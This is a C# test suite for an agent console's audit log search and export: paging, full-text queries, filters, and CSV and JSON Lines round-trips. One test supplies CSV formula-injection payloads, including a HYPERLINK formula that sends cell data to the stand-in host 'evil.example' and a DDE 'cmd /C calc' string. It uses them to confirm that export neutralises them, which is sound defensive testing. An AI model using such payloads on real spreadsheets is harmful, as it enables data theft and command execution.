using System.Globalization;
using System.Text;
using System.Text.Json;
using AgentConsole.Engine.Audit;
using AgentConsole.Tests.Persistence;

namespace AgentConsole.Tests.Audit;

public sealed class AuditSearchTests : IAsyncLifetime
{
    private TestDatabase _db = default!;

    private AuditSearch Search => _db.Get<AuditSearch>();

    public async Task InitializeAsync()
    {
        _db = await TestDatabase.CreateAsync();
        var log = _db.Get<AuditLog>();
        // Day 0: lead routing by the owner; day 10: invoices by an API key; day 20: security events.
        await log.RecordBatchAsync(Enumerable.Range(1, 30).Select(i => new AuditEntry(
            AuditCategory.Decision, "decision.evaluated", AuditActor.User("owner@example.com"),
            $"Lead {i} routed to the mid-market sequence", new { lead = i, company = $"Acme {i}", route = "Mid-market sequence" }, "lead-router", $"run-{i % 3}")));
        _db.Time.Advance(TimeSpan.FromDays(10));
        await log.RecordBatchAsync(Enumerable.Range(1, 20).Select(i => new AuditEntry(
            AuditCategory.Tool, "tool.called", new AuditActor(AuditActorType.ApiKey, "billing-sync"),
            $"Invoice {i} matched, amount, \"quoted\" text", new { invoice = i, vendor = "Globex, Inc." }, "invoice-triage")));
        _db.Time.Advance(TimeSpan.FromDays(10));
        await log.RecordBatchAsync(Enumerable.Range(1, 5).Select(i => new AuditEntry(
            AuditCategory.Security, "signin.failed", AuditActor.User("mallory@example.com"), "Sign-in failed for mallory@example.com")));
        await _db.Get<AuditChain>().SealPendingAsync();
    }

    public async Task DisposeAsync() => await _db.DisposeAsync();

    [Fact]
    public async Task Search_ReturnsNewestFirst_WithKeysetPaging_ThatVisitsEveryEventOnce()
    {
        var seen = new List<long>();
        long? cursor = null;
        do
        {
            var page = await Search.SearchAsync(new AuditQuery { Limit = 7, Before = cursor });
            Assert.True(page.Events.Count <= 7);
            seen.AddRange(page.Events.Select(e => e.Sequence));
            cursor = page.NextCursor;
        }
        while (cursor is not null);

        Assert.Equal(Enumerable.Range(1, 55).Reverse().Select(i => (long)i), seen);
    }

    [Fact]
    public async Task Search_FindsWordsInSummaryAndPayload()
    {
        var bySummary = await Search.SearchAsync(new AuditQuery { Text = "invoice" });
        var byPayload = await Search.SearchAsync(new AuditQuery { Text = "globex" });

        Assert.Equal(20, bySummary.Events.Count);
        Assert.Equal(20, byPayload.Events.Count);
        Assert.All(byPayload.Events, e => Assert.Equal("invoice-triage", e.AgentKey));
    }

    [Fact]
    public async Task Search_MatchesPhrasesPrefixesAndExclusions()
    {
        Assert.Equal(30, (await Search.SearchAsync(new AuditQuery { Text = "\"mid-market sequence\"" })).Events.Count);
        Assert.Empty((await Search.SearchAsync(new AuditQuery { Text = "\"sequence mid-market\"" })).Events);
        Assert.Equal(20, (await Search.SearchAsync(new AuditQuery { Text = "invo*" })).Events.Count);
        Assert.Equal(29, (await Search.SearchAsync(new AuditQuery { Text = "lead -\"lead 7\"" , Limit = 100 })).Events.Count);
    }

    [Fact]
    public async Task Search_CombinesTextWithFilters()
    {
        var dayZero = _db.Time.GetUtcNow().AddDays(-20);
        var result = await Search.SearchAsync(new AuditQuery
        {
            Text = "lead",
            Agent = "lead-router",
            Run = "run-1",
            Actor = "owner@",
            Categories = [AuditCategory.Decision],
            From = dayZero.AddDays(-1),
            To = dayZero.AddDays(1),
            Limit = 100,
        });

        Assert.Equal(10, result.Events.Count);
        Assert.All(result.Events, e => Assert.Equal("run-1", e.RunId));
    }

    [Fact]
    public async Task Search_FiltersByTimeRange_AndCategory()
    {
        var now = _db.Time.GetUtcNow();

        var recent = await Search.SearchAsync(new AuditQuery { From = now.AddDays(-15), Limit = 100 });
        var security = await Search.SearchAsync(new AuditQuery { Categories = [AuditCategory.Security], Limit = 100 });

        Assert.Equal(25, recent.Events.Count);
        Assert.Equal(5, security.Events.Count);
    }

    [Theory]
    [InlineData("\"unbalanced")]
    [InlineData("lead AND")]
    [InlineData("OR")]
    [InlineData("NEAR(lead")]
    [InlineData("lead)")]
    [InlineData("^lead")]
    [InlineData("col:lead")]
    [InlineData("lead*  *")]
    public async Task Search_NeverFails_OnFts5SyntaxInTheInput(string text)
    {
        var page = await Search.SearchAsync(new AuditQuery { Text = text });

        Assert.NotNull(page);
    }

    [Theory]
    [InlineData("*")]
    [InlineData("-lead")]
    [InlineData("!!! ???")]
    public async Task Search_AnswersWithAClearMessage_WhenNothingIsSearchable(string text)
    {
        var error = await Assert.ThrowsAsync<AuditQueryException>(() => Search.SearchAsync(new AuditQuery { Text = text }));

        Assert.False(string.IsNullOrWhiteSpace(error.Message));
    }

    [Fact]
    public async Task Search_TreatsOperatorsAsLiteralWords()
    {
        await _db.Get<AuditLog>().RecordAsync(new AuditEntry(AuditCategory.Human, "note", AuditActor.System, "approve OR reject was discussed"));
        await _db.Get<AuditChain>().SealPendingAsync();

        var result = await Search.SearchAsync(new AuditQuery { Text = "approve OR reject" });

        Assert.Single(result.Events);
    }

    [Theory]
    [InlineData(0)]
    [InlineData(501)]
    public async Task Search_RejectsLimitsOutsideTheAllowedRange(int limit)
    {
        await Assert.ThrowsAsync<AuditQueryException>(() => Search.SearchAsync(new AuditQuery { Limit = limit }));
    }

    [Fact]
    public async Task Search_RejectsARangeThatEndsBeforeItStarts()
    {
        var now = _db.Time.GetUtcNow();

        await Assert.ThrowsAsync<AuditQueryException>(() => Search.SearchAsync(new AuditQuery { From = now, To = now.AddDays(-1) }));
    }

    [Fact]
    public async Task Count_MatchesTheNumberOfExportedRows()
    {
        var query = new AuditQuery { Text = "lead", Agent = "lead-router" };
        using var output = new MemoryStream();

        var count = await Search.CountAsync(query);
        var exported = await Search.ExportAsync(query, AuditExportFormat.JsonLines, output);

        Assert.Equal(30, count);
        Assert.Equal(30, exported);
    }

    [Fact]
    public async Task ExportJsonLines_RoundTripsEveryField()
    {
        using var output = new MemoryStream();

        await Search.ExportAsync(new AuditQuery(), AuditExportFormat.JsonLines, output);

        var lines = Encoding.UTF8.GetString(output.ToArray()).Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(55, lines.Length);
        var page = await Search.SearchAsync(new AuditQuery { Limit = 100 });
        var original = page.Events.OrderBy(e => e.Sequence).ToList();
        for (var i = 0; i < lines.Length; i++)
        {
            using var doc = JsonDocument.Parse(lines[i]);
            var row = doc.RootElement;
            var e = original[i];
            Assert.Equal(e.Sequence, row.GetProperty("sequence").GetInt64());
            Assert.Equal(e.Timestamp, row.GetProperty("timestamp").GetDateTimeOffset());
            Assert.Equal(e.Actor, row.GetProperty("actor").GetString());
            Assert.Equal(e.Category.ToString(), row.GetProperty("category").GetString());
            Assert.Equal(e.Summary, row.GetProperty("summary").GetString());
            Assert.True(JsonElement.DeepEquals(JsonDocument.Parse(e.Payload).RootElement, row.GetProperty("payload")));
            Assert.Equal(e.Hash, row.GetProperty("hash").GetString());
        }
    }

    [Fact]
    public async Task ExportCsv_RoundTripsFieldsWithCommasQuotesAndNewlines()
    {
        await _db.Get<AuditLog>().RecordAsync(new AuditEntry(AuditCategory.Human, "note", AuditActor.System,
            "multi, \"quoted\"", new { text = "line one\nline two, with comma" }));
        await _db.Get<AuditChain>().SealPendingAsync();
        using var output = new MemoryStream();

        await Search.ExportAsync(new AuditQuery(), AuditExportFormat.Csv, output);

        var rows = ParseCsv(Encoding.UTF8.GetString(output.ToArray()));
        Assert.Equal(["sequence", "timestamp", "actorType", "actor", "category", "action", "agent", "run", "summary", "payload", "hash"], rows[0]);
        Assert.Equal(57, rows.Count);
        var last = rows[^1];
        var stored = (await Search.FindAsync(long.Parse(last[0], CultureInfo.InvariantCulture)))!;
        Assert.Equal(stored.Summary, last[8]);
        Assert.Equal(stored.Payload, last[9]);
        Assert.Equal(stored.Hash, last[10]);
        Assert.Equal(stored.Timestamp, DateTimeOffset.Parse(last[1], CultureInfo.InvariantCulture));
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)")]
    [InlineData("\t=1+1")]
    public async Task ExportCsv_PrefixesFormulaCellsWithAnApostrophe_WhileJsonLinesStaysExact(string formula)
    {
        await _db.Get<AuditLog>().RecordAsync(new AuditEntry(AuditCategory.Human, "note", AuditActor.User(formula), formula, new { text = formula }));
        await _db.Get<AuditChain>().SealPendingAsync();
        using var csv = new MemoryStream();
        using var jsonl = new MemoryStream();

        await Search.ExportAsync(new AuditQuery(), AuditExportFormat.Csv, csv);
        await Search.ExportAsync(new AuditQuery(), AuditExportFormat.JsonLines, jsonl);

        var last = ParseCsv(Encoding.UTF8.GetString(csv.ToArray()))[^1];
        Assert.Equal("'" + formula, last[3]);
        Assert.Equal("'" + formula, last[8]);
        using var row = JsonDocument.Parse(Encoding.UTF8.GetString(jsonl.ToArray()).Split('\n', StringSplitOptions.RemoveEmptyEntries)[^1]);
        Assert.Equal(formula, row.RootElement.GetProperty("actor").GetString());
        Assert.Equal(formula, row.RootElement.GetProperty("summary").GetString());
    }

    private static List<string[]> ParseCsv(string text)
    {
        var rows = new List<string[]>();
        var fields = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                fields.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\n')
            {
                fields.Add(field.ToString());
                field.Clear();
                rows.Add([.. fields]);
                fields.Clear();
            }
            else if (c != '\r')
            {
                field.Append(c);
            }
        }

        return rows;
    }
}
